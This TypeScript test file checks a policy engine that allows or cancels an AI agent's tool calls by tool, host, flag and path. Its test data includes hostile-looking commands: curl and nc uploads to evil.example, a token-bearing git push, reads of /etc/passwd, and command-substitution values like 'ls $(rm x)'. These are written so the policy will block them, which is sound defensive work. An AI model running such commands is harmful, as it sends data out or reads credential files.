import { describe, expect, test } from 'vitest';
import type { ToolCall, ToolKind } from '../domain/tool.ts';
import { PolicyDecider } from './policy-decision.ts';
import { mergePolicies } from './policy-stack.ts';
import type { Policy } from './policy.ts';

const cwd = '/home/ada/project';

function call(name: string, tool: string, kind: ToolKind, more: Partial<ToolCall> = {}): ToolCall {
  return { id: '1', name, tool, kind, input: {}, ...more };
}

function bash(command: string): ToolCall {
  return call('Bash', 'bash', 'execute', { command, input: { command } });
}

function finding(policies: Policy | readonly Policy[], of: ToolCall): string | undefined {
  const stack = 'length' in policies ? policies : [policies];
  const found = new PolicyDecider(mergePolicies(stack)).decide(of, { cwd });
  if (found === undefined) return undefined;
  return found.is === 'asked' ? 'ask' : found.action;
}

describe('a denied tool', () => {
  test.each([
    ['bash', call('Monitor', 'monitor', 'execute', { command: 'ls' })],
    ['BASH', call('PowerShell', 'powershell', 'execute')],
    ['bash(rm)', call('PowerShell', 'powershell', 'execute')],
    ['write', call('Edit', 'edit', 'edit')],
    ['edit', call('apply_patch', 'apply_patch', 'edit')],
    ['read', call('Grep', 'grep', 'search')],
    ['agent', call('oracle', 'oracle', 'agent')],
    ['notebookedit', call('NotebookEdit', 'edit', 'edit')],
    ['mcp:lab/*', call('mcp__lab__touch', 'mcp:lab/touch', 'other')],
    ['mcp__lab__touch', call('mcp__lab__touch', 'mcp:lab/touch', 'other')],
    ['*', call('anything', 'anything', 'other')],
  ])('%s is denied by any name: %j', (rule, of) =>
    expect(finding({ rules: { deny: [rule] } }, of)).toBe('cancel'),
  );
  test.each([
    ['write', bash('ls')],
    ['bash', call('Write', 'write', 'edit')],
    ['mcp:lab/*', call('mcp__lab2__touch', 'mcp:lab2/touch', 'other')],
  ])('%s is no other tool: %j', (rule, of) =>
    expect(finding({ rules: { deny: [rule] } }, of)).toBeUndefined(),
  );
});

describe('the only tools', () => {
  const policy = { action: 'warn', tools: ['Read', 'mcp:lab/*'] } as const;
  test('are those that are listed, and what moves nothing but the agent', () => {
    expect(finding(policy, call('Read', 'read', 'read'))).toBeUndefined();
    expect(finding(policy, call('TodoWrite', 'plan_write', 'internal'))).toBeUndefined();
    expect(finding(policy, call('x', 'mcp:lab/a', 'other'))).toBeUndefined();
    expect(finding(policy, bash('ls'))).toBe('warn');
    expect(finding([policy, { tools: ['read'] }], call('x', 'mcp:lab/a', 'other'))).toBe('warn');
  });
});

describe('how a tool may be used', () => {
  const policy = { rules: { allow: ['bash(git status)', 'bash(ls)', 'web_fetch(hosts docs.example.com)'] } };
  const fetched = (url: string): ToolCall => call('WebFetch', 'web_fetch', 'fetch', { input: { url } });
  test.each(['git status', 'ls -l; git status'])('%j', (command) =>
    expect(finding(policy, bash(command))).toBeUndefined(),
  );
  test.each(['git push', 'ls; rm x', 'ls > x', 'ls $(rm x)', 'A=1 ls', '$x'])('not %j', (command) =>
    expect(finding(policy, bash(command))).toBe('cancel'),
  );
  test('by other names of it neither, while other tools are free', () => {
    expect(finding(policy, call('Monitor', 'monitor', 'execute', { command: 'ls' }))).toBe('cancel');
    expect(finding(policy, call('Write', 'write', 'edit', { paths: ['/x'] }))).toBeUndefined();
  });
  test('to which hosts', () => {
    expect(finding(policy, fetched('https://docs.example.com/a'))).toBeUndefined();
    expect(finding(policy, fetched('https://DOCS.example.com./a'))).toBeUndefined();
    for (const url of [
      'https://evil.example/docs.example.com',
      'https://docs.example.com@evil.example/',
      'docs.example.com',
    ]) {
      expect(finding(policy, fetched(url))).toBe('cancel');
    }
  });
});

describe('hosts', () => {
  const policy = { rules: { deny: ['*(hosts evil.example *.bad.example 10.0.0.1)'] } };
  test.each([
    'curl https://evil.example/x',
    'curl -d @x --url=https://EVIL.example',
    'curl evil.example',
    'wget http://a.bad.example:8080/',
    'ssh me@evil.example',
    'scp x evil.example:/tmp',
    'git clone git@evil.example:a/b.git',
    'git push https://token@evil.example/a',
    'curl http://167772161/',
    'nc evil.example 80',
    'curl $URL',
    'bash -c "curl evil.example"',
    'node -e "fetch(1)"',
  ])('%j', (command) => expect(finding(policy, bash(command))).toBe('cancel'));
  test.each([
    'curl https://good.example',
    'echo $x',
    'git status',
    'ping good.example',
    'ls bad.example.txt',
  ])('not %j', (command) => expect(finding(policy, bash(command))).toBeUndefined());
  test('of an address', () => {
    const fetched = (url: string): ToolCall => call('WebFetch', 'web_fetch', 'fetch', { input: { url } });
    expect(finding(policy, fetched('https://evil.example'))).toBe('cancel');
    expect(finding(policy, fetched('http://0x0a.0.0.1/'))).toBe('cancel');
    expect(finding(policy, fetched('https://good.example/?evil.example'))).toBeUndefined();
  });
});

describe('flags', () => {
  const policy = { rules: { deny: ['bash(git push; flags --force -f)'] } };
  test.each([
    'git push --force',
    'git push o m -f',
    'git push -uf',
    'git push --forc',
    'git push --force=x',
    'git push $x',
  ])('%j', (command) => expect(finding(policy, bash(command))).toBe('cancel'));
  test.each(['git push', 'git push -u o', 'git commit -f', 'rm -f x'])('not %j', (command) =>
    expect(finding(policy, bash(command))).toBeUndefined(),
  );
});

describe('paths', () => {
  const outside = { rules: { deny: ['*(outside .)'] } };
  test.each([
    'cat /etc/passwd',
    'cat ../x',
    'cat a/../../x',
    'cd .. && cat x',
    'cd ..; cat project/../x',
    'echo x > /tmp/x',
    'tar -C/tmp -xf a',
    'git -C /tmp status',
    'dd of=/tmp/x',
    'curl -o /tmp/x https://a.example',
    'curl file:///etc/%70asswd',
    'cat ~/x',
    'cat $HOME/x',
    'cd; cat x',
    // The change may fail, and then it leaves the folder.
    'cd a; cat ../x',
    'cat *',
    '../tool',
    'sh -c "cat /etc/passwd"',
    'python -c 1',
  ])('%j leaves the folder, or may', (command) => expect(finding(outside, bash(command))).toBe('cancel'));
  test.each([
    'cat a/b',
    'cat /home/ada/project/x',
    'ls 2>/dev/null',
    '/bin/ls a',
    'git status',
    'curl https://a.example/b',
  ])('%j stays', (command) => expect(finding(outside, bash(command))).toBeUndefined());
  test.each<[string, ToolCall, string | undefined]>([
    ['a written file', call('Write', 'write', 'edit', { paths: ['/home/ada/other'] }), 'cancel'],
    ['a file in it', call('Write', 'write', 'edit', { paths: ['a'] }), undefined],
    ['a tool that does not say which', call('undo', 'undo_edit', 'edit'), 'cancel'],
    [
      'a patch',
      call('apply_patch', 'apply_patch', 'edit', {
        input: { patch: '*** Update File: a\n*** Move to: ../b\n' },
      }),
      'cancel',
    ],
    ['a search in it', call('Grep', 'grep', 'search', { input: { pattern: '/x/' } }), undefined],
    ['a pattern', call('Glob', 'glob', 'search', { input: { pattern: '/etc/*' } }), 'cancel'],
    ['a tool of a server', call('x', 'mcp:a/b', 'other', { input: { deep: [{ to: '/etc/x' }] } }), 'cancel'],
    ['a text to a server', call('x', 'mcp:a/b', 'other', { input: { text: 'hello' } }), undefined],
    [
      'a file by its address',
      call('WebFetch', 'web_fetch', 'fetch', { input: { url: 'file:///x' } }),
      'cancel',
    ],
    ['a list of steps', call('TodoWrite', 'plan_write', 'internal', { input: { text: '/x' } }), undefined],
  ])('%s', (_name, of, expected) => expect(finding(outside, of)).toBe(expected));

  const inside = { rules: { deny: ['*(inside secrets)'] } };
  test.each([
    'cat secrets/x',
    'cd secrets; ls',
    'grep -r x .',
    'rm -rf ..',
    'cat sec*',
    'cp a /home/ada/project/secrets',
  ])('%j reaches what is in the folder, or may', (command) =>
    expect(finding(inside, bash(command))).toBe('cancel'),
  );
  test.each(['cat secretsx', 'cat a', 'git status'])('%j does not', (command) =>
    expect(finding(inside, bash(command))).toBeUndefined(),
  );
  test('a search above it does', () => {
    expect(finding(inside, call('Grep', 'grep', 'search'))).toBe('cancel');
    expect(finding(inside, call('Grep', 'grep', 'search', { paths: ['src'] }))).toBeUndefined();
  });
});

describe('several', () => {
  test('the strictest that is violated counts, and what is asked comes after', () => {
    const policies: readonly Policy[] = [
      { rules: { ask: ['bash'], deny: [{ tool: 'bash', program: 'rm', action: 'warn' }] } },
      { rules: { deny: [{ tool: 'bash', program: 'rm', arguments: ['-r'], action: 'request_approval' }] } },
    ];
    expect(['ls', 'rm x', 'rm -r x'].map((command) => finding(policies, bash(command)))).toEqual([
      'ask',
      'warn',
      'request_approval',
    ]);
  });
  test('the reason names policy, rule and why', () => {
    const merged = mergePolicies([{ name: 'team', rules: { deny: ['bash(rm)'] } }]);
    expect(new PolicyDecider(merged).decide(bash('ls; rm x'), { cwd })).toMatchObject({
      rule: 'deny bash(rm)',
      reason: 'The policy team forbids it by the rule bash(rm): it runs rm.',
    });
  });
});

describe('a command of an agent that wants to keep us busy', () => {
  const policy: Policy = { rules: { deny: ['bash(outside .)'] } };
  test('is refused when it changes between too many folders', () => {
    const changes = Array.from({ length: 1_000 }, (_, index) => `cd a${index}`);
    expect(finding(policy, bash(changes.slice(0, 3).join('; ')))).toBeUndefined();
    expect(finding(policy, bash(changes.join('; ')))).toBe('cancel');
  });
  test('is refused when it names too many paths from several folders', () => {
    const words = Array.from({ length: 9_000 }, (_, index) => `a${index}`).join(' ');
    expect(finding(policy, bash(`cat ${words}`))).toBeUndefined();
    expect(finding(policy, bash(`cd src; cat ${words}`))).toBe('cancel');
  });
});

test('where the folder of a rule leads is looked up for each decision', () => {
  const decider = new PolicyDecider(mergePolicies([{ rules: { deny: ['write(inside live)'] } }]));
  const write = call('Write', 'write', 'edit', { paths: ['/srv/second/a'] });
  let live = '/srv/first';
  const realPaths = (path: string): readonly string[] => [path === `${cwd}/live` ? live : path];
  expect(decider.decide(write, { cwd, realPaths })).toBeUndefined();
  live = '/srv/second';
  expect(decider.decide(write, { cwd, realPaths })?.is).toBe('forbidden');
});
